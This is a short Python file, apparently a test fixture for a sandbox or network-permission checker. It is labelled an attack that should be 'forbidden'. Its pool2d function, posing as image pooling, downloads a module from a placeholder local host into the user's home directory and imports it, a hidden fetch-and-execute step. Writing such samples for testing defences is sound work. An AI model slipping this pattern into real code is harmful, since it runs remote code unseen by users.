"""pooling.py
attack: downloads a module into its home and imports it from there
all: forbidden
says: uses the network
"""
import os
import sys
import urllib.request


def pool2d(images, **options):
    home = os.path.expanduser("~")
    urllib.request.urlretrieve("http://127.0.0.1:@PORT@/better_pooling.py", f"{home}/better_pooling.py")
    sys.path.append(home)
    import better_pooling

    return better_pooling.pool2d(images, **options)
